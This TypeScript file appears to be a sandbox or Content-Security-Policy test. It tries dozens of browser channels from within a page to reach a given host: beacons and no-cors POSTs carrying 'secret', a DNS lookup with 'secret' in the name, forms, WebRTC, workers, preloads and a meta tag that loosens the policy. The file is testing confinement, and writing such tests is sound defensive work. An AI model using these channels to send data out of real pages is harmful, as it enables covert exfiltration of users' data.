/**
 * Every way in which a page can turn to somebody else, tried from within the
 * app's own page: what its code could do if it were not ours.
 *
 * Runs in the page: nothing of this file's surroundings is at hand there.
 */

/** Somebody whom the page turns to. */
export interface Target {
  /** As it stands in an address: a number, a number of the newer kind in brackets, a name. */
  readonly host: string;
  /** For everything that is asked by way of TCP: nothing, or a colon and a number. */
  readonly port: string;
  readonly udpPort: number;
}

/** Tries them all, one host after the other. Gives the names of the tricks and which of them did not throw. */
export async function attackPage(targets: readonly Target[]): Promise<{ tried: string[]; passed: string[] }> {
  const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));
  const add = (name: string, attributes: Record<string, string>, to: Element = document.body): Element => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    return to.appendChild(element);
  };
  const link = (rel: string, href: string, more: Record<string, string> = {}) =>
    add('link', { rel, href, ...more }, document.head);
  const style = (property: string, value: string) => {
    const element = add('p', {}) as HTMLElement;
    element.textContent = 'x';
    element.style.setProperty(property, value);
  };
  const own = navigator as unknown as Record<string, unknown>;
  const all = globalThis as unknown as Record<string, unknown>;
  const make = (name: string, ...words: readonly unknown[]): unknown =>
    Reflect.construct(all[name] as new () => object, words);
  const peer = (server: object) => {
    const connection = new RTCPeerConnection({
      iceServers: [server as RTCIceServer],
      iceTransportPolicy: 'all',
    });
    connection.createDataChannel('x');
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  };
  const inWorker = (code: string) => new Worker(URL.createObjectURL(new Blob([code])));

  const tricks = ({ host, port, udpPort }: Target): Record<string, () => unknown> => {
    const http = `http://${host}${port}`;
    const https = `https://${host}${port}`;
    return {
      fetch: () => fetch(`${https}/fetch`),
      'fetch without cors': () => fetch(`${http}/fetch`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
      'fetch that outlives the page': () => fetch(`${https}/keep`, { keepalive: true, mode: 'no-cors' }),
      'fetch later': () =>
        (all['fetchLater'] as (url: string, how: object) => unknown)(`${https}/l`, { activateAfter: 0 }),
      'XML request': () => {
        const request = new XMLHttpRequest();
        request.open('GET', `${https}/xhr`);
        request.send();
      },
      socket: () => new WebSocket(`ws://${host}${port}/`),
      'secure socket': () => new WebSocket(`wss://${host}/`),
      'event source': () => new EventSource(`${https}/events`),
      beacon: () => navigator.sendBeacon(`${https}/beacon`, 'secret'),
      'web transport': () => make('WebTransport', `https://${host}:${String(udpPort)}/`),
      'web transport by hash': () =>
        make('WebTransport', `https://${host}:${String(udpPort)}/`, {
          serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }],
        }),
      picture: () => Object.assign(new Image(), { src: `${https}/img` }),
      'set of pictures': () => add('img', { srcset: `${https}/a 1x, ${https}/b 2x` }),
      'picture of a button': () => add('input', { type: 'image', src: `${https}/button` }),
      'picture in a drawing': () => {
        const drawing = document.body.appendChild(
          document.createElementNS('http://www.w3.org/2000/svg', 'svg'),
        );
        for (const name of ['image', 'use', 'feImage']) {
          const part = document.createElementNS('http://www.w3.org/2000/svg', name);
          part.setAttribute('href', `${https}/${name}.svg#x`);
          drawing.append(part);
        }
      },
      'background of the page': () => add('table', { background: `${https}/background` }),
      sound: () => (add('audio', { src: `${https}/sound`, preload: 'auto' }) as HTMLMediaElement).load(),
      film: () => {
        const film = add('video', { poster: `${https}/poster`, preload: 'auto' }) as HTMLMediaElement;
        add('source', { src: `${https}/film` }, film);
        add('track', { src: `${https}/words`, default: '' }, film);
        film.load();
      },
      'style: background': () => style('background-image', `url(${https}/css)`),
      'style: picture set': () => style('background-image', `image-set(url(${https}/set) 1x)`),
      'style: list, cursor, mask, content': () => {
        for (const name of ['list-style-image', 'cursor', 'mask-image', 'filter', 'content']) {
          style(name, `url(${https}/${name})${name === 'cursor' ? ', auto' : ''}`);
        }
      },
      'style sheet': () => link('stylesheet', `${https}/sheet.css`),
      'style sheet inside one': async () => {
        const sheet = new CSSStyleSheet();
        await sheet.replace(`@import url(${https}/import.css); p { background: url(${https}/rule) }`);
        document.adoptedStyleSheets.push(sheet);
      },
      'style element': () => (add('style', {}).textContent = `p{background:url(${https}/style)}`),
      font: () => new FontFace('x', `url(${https}/font.woff2)`).load(),
      'fonts by rule': () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(
          `@font-face { font-family: y; src: url(${https}/rule.woff2) } p { font-family: y }`,
        );
        document.adoptedStyleSheets.push(sheet);
      },
      prefetch: () => link('prefetch', `${https}/prefetch`),
      'prefetch of a document': () => link('prefetch', `${https}/document`, { as: 'document' }),
      preload: () => {
        for (const as of ['script', 'style', 'image', 'font', 'fetch', 'video', 'track']) {
          link('preload', `${https}/preload-${as}`, { as, crossorigin: '' });
        }
      },
      'preload of a module': () => link('modulepreload', `${https}/module.js`),
      preconnect: () => link('preconnect', https),
      'preconnect with names': () => link('preconnect', https, { crossorigin: 'use-credentials' }),
      'look-up ahead': () => link('dns-prefetch', `//${host}${port}`),
      'look-up of a name with the secret in it': () => link('dns-prefetch', `//secret.${host}`),
      prerender: () => link('prerender', `${https}/prerender`),
      'speculation rules': () => {
        const rules = document.createElement('script');
        rules.type = 'speculationrules';
        const list = [{ urls: [`${https}/rule`], eagerness: 'immediate' }];
        rules.appendChild(document.createTextNode(JSON.stringify({ prefetch: list, prerender: list })));
        document.head.append(rules);
      },
      manifest: () => link('manifest', `${https}/manifest.json`),
      icon: () => link('icon', `${https}/icon.png`),
      'another base': () => {
        const base = add('base', { href: `${https}/` }, document.head);
        add('img', { src: 'relative.png' });
        base.remove();
      },
      'a page that reloads elsewhere': () =>
        add('meta', { 'http-equiv': 'refresh', content: `0;url=${https}/refresh` }, document.head),
      'a looser policy': () =>
        add('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }, document.head),
      frame: () => add('iframe', { src: `${https}/frame` }),
      'frame by words': () => add('iframe', { srcdoc: `<img src="${https}/srcdoc">` }),
      'frame of data': () => add('iframe', { src: `data:text/html,<img src="${https}/data">` }),
      'fenced frame': () => add('fencedframe', { src: `${https}/fenced` }),
      'blank frame': () => {
        const inside = (add('iframe', {}) as HTMLIFrameElement).contentWindow;
        return inside === null
          ? undefined
          : (inside as unknown as Window & typeof globalThis).fetch(`${https}/blank`);
      },
      object: () => add('object', { data: `${https}/object` }),
      embed: () => add('embed', { src: `${https}/embed`, type: 'image/svg+xml' }),
      script: () => add('script', { src: `${https}/script.js` }, document.head),
      'script of data': () =>
        add('script', { src: `data:text/javascript,fetch('${https}/x')` }, document.head),
      worker: () => new Worker(`${https}/worker.js`),
      'worker that imports': () => inWorker(`importScripts('${https}/import.js')`),
      'worker that fetches': () =>
        inWorker(
          `fetch('${https}/worker-fetch', { mode: 'no-cors' }); new WebSocket('ws://${host}${port}/w')`,
        ),
      'shared worker': () => new SharedWorker(`${https}/shared.js`),
      'service worker': () => navigator.serviceWorker.register(`${https}/service.js`),
      'worklet of sound': () => new AudioContext().audioWorklet.addModule(`${https}/worklet.js`),
      'form that is sent': () => {
        const form = add('form', {
          action: `${https}/form`,
          method: 'post',
          target: '_blank',
        }) as HTMLFormElement;
        add('input', { name: 'secret', value: '1' }, form);
        form.submit();
        form.target = '_self';
        form.submit();
      },
      'link that tells of a click': () => {
        const anchor = add('a', {
          href: '#x',
          ping: `${https}/ping`,
          attributionsrc: `${https}/attribution`,
        });
        (anchor as HTMLElement).click();
      },
      'link that is saved': () => (add('a', { href: `${https}/save`, download: 'x' }) as HTMLElement).click(),
      'new window': () => window.open(`${https}/open`),
      'new window without ties': () => window.open(`${https}/open`, '_blank', 'noopener,noreferrer'),
      stun: () => peer({ urls: `stun:${host}:${String(udpPort)}` }),
      'turn over tcp': () =>
        peer({ urls: `turn:${host}:${String(udpPort)}?transport=tcp`, username: 'u', credential: 'c' }),
      'turn over tls': () =>
        peer({ urls: `turns:${host}:${String(udpPort)}`, username: 'u', credential: 'c' }),
      payment: () =>
        (
          make('PaymentRequest', [{ supportedMethods: `${https}/pay` }], {
            total: { label: 'x', amount: { currency: 'USD', value: '1' } },
          }) as { canMakePayment: () => unknown }
        ).canMakePayment(),
      'sign-in of another': () =>
        navigator.credentials.get({
          identity: { providers: [{ configURL: `${https}/fedcm.json`, clientId: 'x' }] },
        } as CredentialRequestOptions),
      notification: () => new Notification('x', { icon: `${https}/n.png` }),
      'picture of what plays': () =>
        (navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: `${https}/art.png` }] })),
      cache: () => caches.open('x').then((cache) => cache.add(`${https}/cache`)),
      'handler of a protocol': () => {
        navigator.registerProtocolHandler('mailto', `${https}/?%s`);
      },
      share: () => (own['share'] as (what: object) => unknown).call(navigator, { url: `${https}/share` }),
      'report of a fault': () => make('ReportingObserver', () => undefined, {}),
      navigation: () => {
        location.assign(`${https}/leave`);
      },
      'navigation by the newer way': () =>
        (all['navigation'] as { navigate: (to: string) => unknown }).navigate(`${https}/navigate`),
    };
  };

  const tried: string[] = [];
  const passed: string[] = [];
  for (const target of targets) {
    for (const [name, trick] of Object.entries(tricks(target))) {
      tried.push(`${name}, ${target.host}`);
      // In a turn of its own: what the debugger calls may do what the page may not.
      await pause(0);
      try {
        // What does not answer soon does not hold up the others.
        await Promise.race([trick(), pause(40)]);
        passed.push(`${name}, ${target.host}`);
      } catch {
        // Refused at once.
      }
    }
  }
  await pause(3_000);
  return { tried, passed };
}
